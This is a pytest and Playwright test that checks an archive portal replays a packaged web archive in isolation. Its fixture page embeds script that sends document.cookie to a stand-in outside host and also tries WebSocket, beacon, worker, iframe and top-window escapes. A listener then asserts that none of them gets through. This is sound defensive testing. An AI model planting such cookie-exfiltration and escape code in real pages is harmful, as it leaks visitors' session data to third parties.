"""A web archive replays in the portal with the network off, on an origin of its own, and nothing of it gets out."""

import io
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect
from pytest_django.live_server_helper import LiveServer
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from archiving import replay
from archiving.capture.wacz_file import pack
from tests.factories_archive import archivist, hand_in, new_file, open_snapshot

pytestmark = pytest.mark.django_db(transaction=True)

URL, AT = "http://blogg.example/inlagg/", "2026-11-20T10:00:00Z"

PAGE = """<!doctype html><html lang="sv"><head><meta charset="utf-8"><title>Bloggen</title>
<link rel="preconnect" href="http://OUTSIDE/"><link rel="prefetch" href="http://OUTSIDE/prefetch">
</head><body><h1>Sagostund på lördag</h1><p id="script">Skriptet har inte kört.</p><button>Ut</button>
<img src="http://OUTSIDE/bild.png" alt=""><iframe src="http://OUTSIDE/ram"></iframe>
<script>
document.getElementById("script").textContent = "Skriptet körde.";
const out = "OUTSIDE";
try { fetch("http://" + out + "/fetch?" + document.cookie).catch(() => {}); } catch (fault) {}
try { new WebSocket("ws://" + out + "/ws"); } catch (fault) {}
try { navigator.sendBeacon("http://" + out + "/beacon", "x"); } catch (fault) {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('http://" + out + "/worker')"]))); } catch (fault) {}
const frame = document.createElement("iframe");
frame.src = "http://" + out + "/ram2";
document.body.append(frame);
document.querySelector("button").onclick = () => {
  try { window.top.parent.parent.location = "http://" + out + "/utanfor"; } catch (fault) {}
  try { window.open("http://" + out + "/fonster"); } catch (fault) {}
  top.location.href = "http://" + out + "/topp";
};
</script></body></html>"""


@pytest.fixture
def outside() -> Iterator[tuple[str, list[bytes]]]:
    """A listening server somewhere else: its address, and what it has heard."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    line, _ = server.accept()
                except OSError:
                    return
                with line:
                    heard.append(line.recv(500))

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", heard


@pytest.fixture
def replay_server(live_server, settings) -> Iterator[str]:
    """The same portal on a second port: another origin, and the same site, so that the browser lets it keep a service worker."""
    second = LiveServer("localhost")
    settings.SITE_URL, settings.REPLAY_ORIGIN = live_server.url, second.url
    yield second.url
    second.stop()


def archive_of(html: str, folder: Path) -> bytes:
    with (folder / "data.warc.gz").open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        writer.write_record(
            writer.create_warc_record(
                URL, "response", payload=io.BytesIO(html.encode()), http_headers=headers, warc_headers_dict={"WARC-Date": AT}
            )
        )
    pack(folder / "data.warc.gz", folder / "bloggen.wacz", url=URL, at=AT, title="Bloggen", text="Sagostund på lördag")
    return (folder / "bloggen.wacz").read_bytes()


def test_an_archived_page_is_read_as_it_was_and_its_scripts_reach_nothing(live_server, replay_server, open_as, outside, tmp_path):
    address, heard = outside
    content = archive_of(PAGE.replace("OUTSIDE", address), tmp_path)
    file = hand_in(open_snapshot(), files=[new_file("Bloggen.wacz", "webbarkiv", content=content, content_type=replay.WACZ, ending="wacz")])
    page = open_as(archivist())
    page.context.route(lambda asked: not asked.startswith((live_server.url, replay_server, "blob:", "data:")), lambda route: route.abort())

    page.goto(f"/arkiv/filer/{file.files.get().pk}/")
    player = page.frame_locator("iframe.kept-replay").frame_locator("replay-web-page iframe")
    archived = player.frame_locator("wr-coll-replay iframe")

    expect(archived.get_by_role("heading", name="Sagostund på lördag")).to_be_visible(timeout=15_000)
    expect(archived.locator("#script")).to_have_text("Skriptet körde.")
    archived.get_by_role("button", name="Ut").click()
    page.wait_for_timeout(500)
    assert heard == []
    assert page.url.startswith(live_server.url)
    assert len(page.context.pages) == 1
